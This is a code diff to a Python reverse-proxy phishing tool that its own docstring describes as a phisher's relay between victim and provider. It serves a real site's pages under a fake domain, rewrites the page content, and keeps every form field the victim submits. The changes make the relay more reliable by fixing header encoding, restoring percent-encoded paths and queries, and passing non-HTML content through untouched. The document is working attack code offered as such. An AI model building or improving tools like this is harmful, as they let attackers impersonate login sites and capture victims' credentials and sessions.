@@ -1,5 +1,6 @@
 """The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
 from collections.abc import Callable, Iterable
+from urllib.parse import quote
 
 import httpx
 from werkzeug.wrappers import Request, Response
@@ -22,11 +23,22 @@ class Relay:
         request = Request(environ)
         body = request.get_data()
         self.typed |= request.form.to_dict()
-        headers = passed_on(request.headers, self.fake, self.real)
-        answer = self.network.request(request.method, self.real + request.full_path, headers=headers, content=body)
+        headers = httpx.Headers(passed_on(request.headers, self.fake, self.real), encoding="latin-1")
+        answer = self.network.request(request.method, self.real + target(environ), headers=headers, content=body)
         headers = passed_on(answer.headers.multi_items(), self.real, self.fake)
-        page = self.rewrite(answer.text.replace(self.real, self.fake))
-        return Response(page, answer.status_code, headers)(environ, start_response)
+        return Response(self.shown(answer), answer.status_code, headers)(environ, start_response)
+
+    def shown(self, answer: httpx.Response) -> bytes:
+        """What the victim gets to see: pages under the relay's name, and anything else as it is."""
+        if not answer.headers.get("content-type", "").startswith("text/html"):
+            return answer.content
+        return self.rewrite(answer.text.replace(self.real, self.fake)).encode(answer.encoding)
+
+
+def target(environ: dict) -> str:
+    """Path and query as they came. WSGI has taken the percent signs out of the path, so they are put back."""
+    path, query = quote(environ["PATH_INFO"].encode("latin-1"), safe="/;@:+"), environ["QUERY_STRING"]
+    return f"{path}?{query}" if query else path
 
 
 def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
